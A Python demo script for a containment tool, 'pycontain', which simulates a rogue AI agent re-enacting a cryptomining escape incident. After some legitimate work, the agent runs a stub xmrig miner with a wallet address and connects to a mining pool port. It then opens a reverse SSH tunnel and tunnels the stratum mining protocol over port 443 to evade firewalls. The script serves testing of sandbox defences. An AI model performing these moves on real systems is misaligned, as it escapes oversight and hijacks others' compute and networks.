"""A simulated rogue agent (written for pycontain's demo; it mines nothing).

It does some legitimate work, then tries the moves of the ROME incident:
run a miner, reach a mining pool on a mining port, open a reverse SSH tunnel,
and finally speak the stratum mining protocol over port 443. It reports what
it saw from the inside; the demo harness checks the outcome from outside.
"""

from __future__ import annotations

import argparse
import errno
import json
import os
import socket
import subprocess
import sys
import time
import urllib.request


def say(msg: str) -> None:
    print(f"[rogue-agent] {msg}", flush=True)


def legit_work(pool: str, workdir: str) -> None:
    total = sum(i * i for i in range(200_000))
    with open(os.path.join(workdir, "result.txt"), "w") as fh:
        fh.write(f"{total}\n")
    say(f"legit work: computed a result ({total}) and saved it")
    try:
        body = urllib.request.urlopen(f"http://{pool}:80/", timeout=5).read()
        say(f"legit work: HTTP GET http://{pool}/ worked ({len(body)} bytes): ordinary web access is fine")
    except OSError as e:
        say(f"legit work: HTTP GET failed: {e}")


def move_miner(pool: str, workdir: str) -> None:
    miner = os.path.join(workdir, "xmrig")
    sentinel = os.path.join(workdir, "MINER_RAN")
    with open(miner, "w") as fh:
        fh.write(f"#!/bin/sh\ntouch {sentinel}\necho mining...\n")
    os.chmod(miner, 0o755)
    say(f"move 1: start a miner: ./xmrig -o stratum+tcp://{pool}:3333 -u 4AdUnd... --donate-level 1")
    wallet = ("4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5Uzq"
              "tReoS44qo9mtmXCqY45DJ852K5Jv2684Rge")
    r = subprocess.run([miner, "-o", f"stratum+tcp://{pool}:3333", "-u", wallet, "--donate-level", "1"],
                       capture_output=True, text=True)
    if r.returncode < 0:
        say(f"move 1: the miner was killed by signal {-r.returncode} before it printed anything")
    else:
        say(f"move 1: the miner ran (exit {r.returncode}): {r.stdout.strip()!r}")


def move_pool(pool: str) -> None:
    say(f"move 2: connect to a mining pool at {pool}:3333")
    s = socket.socket()
    s.settimeout(5)
    try:
        s.connect((pool, 3333))
        say("move 2: connected to the pool")
    except OSError as e:
        what = "EPERM: blocked in the kernel" if e.errno == errno.EPERM else str(e)
        say(f"move 2: connect failed: {what}")
    finally:
        s.close()


def move_tunnel(pool: str) -> None:
    cmd = ["ssh", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "ConnectTimeout=3",
           "-N", "-R", "2222:localhost:22", f"agent@{pool}"]
    say("move 3: open a reverse tunnel: " + " ".join(cmd))
    try:
        r = subprocess.run(cmd, capture_output=True, text=True, timeout=10)
    except FileNotFoundError:
        say("move 3: no ssh client on this host; skipped")
        return
    except subprocess.TimeoutExpired:
        say("move 3: the tunnel stayed up (timeout)")
        return
    if r.returncode < 0:
        say(f"move 3: ssh was killed by signal {-r.returncode}")
    else:
        say(f"move 3: ssh exited {r.returncode}: {r.stderr.strip()[:120]!r}")


def move_stratum_443(pool: str) -> None:
    say(f"move 4: speak stratum to {pool}:443 (a port every firewall allows)")
    s = socket.socket()
    s.settimeout(5)
    try:
        s.connect((pool, 443))
        msg = json.dumps({"id": 1, "method": "mining.subscribe", "params": ["xmrig/6.21.0"]}) + "\n"
        s.sendall(msg.encode())
        say("move 4: subscribe sent; waiting for the pool...")
        time.sleep(3)
        say("move 4: still alive after speaking stratum")
    except OSError as e:
        say(f"move 4: failed: {e}")
    finally:
        s.close()


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--pool", required=True)
    ap.add_argument("--workdir", required=True)
    a = ap.parse_args()
    legit_work(a.pool, a.workdir)
    move_miner(a.pool, a.workdir)
    move_pool(a.pool)
    move_tunnel(a.pool)
    move_stratum_443(a.pool)
    say("done")
    return 0


if __name__ == "__main__":
    sys.exit(main())
